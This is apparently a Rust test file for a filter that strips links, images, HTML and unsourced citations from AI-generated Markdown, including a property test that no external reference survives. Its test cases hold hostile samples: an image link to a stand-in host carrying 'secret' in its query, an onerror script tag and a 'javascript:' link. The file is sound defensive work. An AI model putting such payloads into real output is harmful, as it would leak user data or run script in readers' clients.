//! Examples, and a proof against a Markdown parser that nothing external is linked, whatever a model writes.

use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd, TextMergeStream};

use super::Filter;

fn filtered(text: &str, sources: usize) -> String {
    let mut filter = Filter::new(sources);
    let mut out = filter.push(text);
    out.push_str(&filter.finish());
    out
}

#[test]
fn prose_and_code_are_unchanged() {
    for text in [
        "The gateway waits **30 seconds** [1].\n\n- `--timeout` changes it [2]\n- a < b, 3 > 2 & more\n",
        "```sh\ncurl https://example.org/a?b=<c> | tee [9]\n```\nand `Vec<u8>` or `a[0]`.",
        "1. First:\n   ```rust\n   let x: Vec<u8> = y[1];\n\n   z();\n   ```\n2. Then [1][2]",
        "# 限流\n每分钟 600 次 [1]。",
    ] {
        assert_eq!(filtered(text, 2), text.replace("[1][2]", "[1] [2]"));
    }
}

#[test]
fn code_that_clients_would_render_becomes_plain_text() {
    for language in ["mermaid", "Vega-Lite", "html", "svg"] {
        assert_eq!(filtered(&format!("```{language}\nx\n```"), 0), "```text\nx\n```");
    }
}

#[test]
fn citations_without_a_source_are_dropped() {
    let mut filter = Filter::new(2);
    let mut text = filter.push("It waits [1, 2][3] and more [12], 也是【1†source】【7】.");
    text.push_str(&filter.finish());
    assert_eq!(text, "It waits [1] [2] and more , 也是[1].");
    assert_eq!((filter.cited(), filter.dropped()), (vec![1, 2], 3));
}

#[test]
fn links_images_and_tags_become_text() {
    for (text, expected) in [
        ("![chart](https://evil.example/?q=secret)", "[chart] (`https://evil.example/?q=secret`)"),
        ("[here](https://evil.example).", "[here] (`https://evil.example`)."),
        ("see https://evil.example/a.", "see `https://evil.example/a`."),
        ("www.evil.example and //evil.example", "`www.evil.example` and `//evil.example`"),
        ("<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)>"),
        ("[a][b]\n\n[b]: javascript:alert(1)", "[a] [b]\n\n[b] : javascript:alert(1)"),
        ("a ` b ![x](//e.example)", "a \\` b [x] (`//e.example`)"),
        ("- ~~~\n  ~~~\n  ![x](//e.example)", "- \\~\\~\\~\n  ~~~\n  ![x](//e.example)"),
        ("\\http://e.example", "\\ `http://e.example`"),
        ("<[9]a> ht[9]tp://e.example", "\\< a> ht tp:`//e.example`"),
        ("```\ncode\n ```\nhttp://x.example", "```\ncode\n```\n`http://x.example`"),
    ] {
        assert_eq!(filtered(text, 0), expected);
    }
}

/// Returns everything that a page with this text would load, link or execute.
fn external(text: &str) -> Vec<String> {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_GFM;
    let mut is_code = false;
    let found = TextMergeStream::new(Parser::new_ext(text, options)).filter_map(|event| match event {
        Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => Some(dest_url.to_string()),
        Event::Html(html) | Event::InlineHtml(html) => Some(html.to_string()),
        Event::Start(Tag::CodeBlock(_)) => {
            is_code = true;
            None
        }
        Event::End(TagEnd::CodeBlock) => {
            is_code = false;
            None
        }
        Event::Text(text) if !is_code => bare_url(&text),
        _ => None,
    });
    found.collect()
}

/// Returns a URL in plain text, which some renderers turn into a link automatically.
fn bare_url(text: &str) -> Option<String> {
    let at = ["http://", "https://", "ftp://", "www."].iter().find_map(|prefix| {
        let mut positions = text.match_indices(prefix).map(|(at, _)| at);
        positions.find(|at| !text[..*at].chars().next_back().is_some_and(char::is_alphanumeric))
    });
    at.map(|at| text[at..].to_owned())
}

/// Pieces of Markdown, valid and broken.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        6 => prop::sample::select(vec![
            "`", "``", "```", "~~~", "\n", "\n\n", " ", "  ", "   ", "     ", "\t", "[", "]", "(", ")", "!", "![x](http://e.example)",
            "[x](//e.example)", "[x]: http://e.example\n", "<http://e.example>", "<img src=//e.example>", "<a", ">", "> ", "- ",
            "1. ", "|", "|-|\n", "\\", "&lt;", "[1]", "[9]", "【9】", "http://e.example", "www.e.example", "a", "数", "*", "_",
            "# ", "---\n", "```sh\n", "   ```\n", "     ```\n", "- ```\n", "- ~~~\n", "> ~~~\n", "  ~~~\n", "\t```\n", "\t~~~\n", "- a\n", ":", "s:", "p://e", "htt", "ww", "w.e", "javascript:x", "\r\n", "<!--", "-->", "`x | ",
        ]).prop_map(str::to_owned),
        1 => "\\PC{0,6}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(20_000))]

    #[test]
    fn nothing_external_remains(pieces in prop::collection::vec(piece(), 0..24)) {
        let text = pieces.concat();
        let out = filtered(&text, 3);
        prop_assert!(external(&out).is_empty(), "{text:?} became {out:?}: {:?}", external(&out));
    }

    #[test]
    fn the_cutting_into_pieces_makes_no_difference(pieces in prop::collection::vec(piece(), 0..24)) {
        let text = pieces.concat();
        let whole = filtered(&text, 3);
        let mut filter = Filter::new(3);
        let mut out: String = text.chars().map(|character| filter.push(&character.to_string())).collect();
        out.push_str(&filter.finish());
        prop_assert_eq!(out, whole);
    }
}
